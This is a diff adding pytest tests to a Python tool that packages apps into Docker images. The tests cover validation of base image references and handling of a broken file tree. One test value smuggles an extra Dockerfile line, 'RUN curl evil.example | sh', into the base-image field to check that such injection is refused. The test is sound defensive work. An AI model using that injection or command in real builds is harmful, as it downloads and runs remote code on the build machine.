@@ -222,6 +222,28 @@ def test_docker_files(store: PackageStore) -> None:
         build_package(APPS / "kuksa_app.py", custom, store=store).path)["docker/Dockerfile"].decode()
 
 
+@pytest.mark.parametrize("image", ["python:3.11-slim\nRUN curl evil.example | sh", "python 3.11", "Python:3.11", ""])
+def test_a_base_image_that_is_not_a_reference_is_refused(store: PackageStore, image: str) -> None:
+    with pytest.raises(PackageError) as info:
+        build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE, base_image=image), store=store)
+    assert info.value.problems[0].startswith(f"baseImage: {image!r} is not an image reference")
+
+
+@pytest.mark.parametrize("image", ["python:3.11-slim", "registry.example.com:5000/team/py_base:3.11",
+                                   f"debian@sha256:{'a' * 64}"])
+def test_image_references_as_docker_spells_them_are_accepted(image: str) -> None:
+    from sdv_studio.core.packaging.docker import valid_image_reference
+
+    assert valid_image_reference(image)
+
+
+def test_a_playground_request_with_a_broken_tree_is_invalid_input_not_a_crash(store: PackageStore) -> None:
+    tree = {"type": "folder", "name": "app", "items": [{"type": "file", "name": "README.md", "content": "no code"}]}
+    request = PackageRequest.model_validate({"name": "tree-app", "code": json.dumps(tree)})
+    with pytest.raises(PackageError, match=r"the file tree has no main\.py"):
+        build_from_request(request, store=store)
+
+
 def test_invalid_inputs_report_every_problem(store: PackageStore) -> None:
     options = BuildOptions(python_versions=ONE, name="Bad Name", version="1.0", memory="64MB", cpu="0.01",
                            platforms=["sparc"])
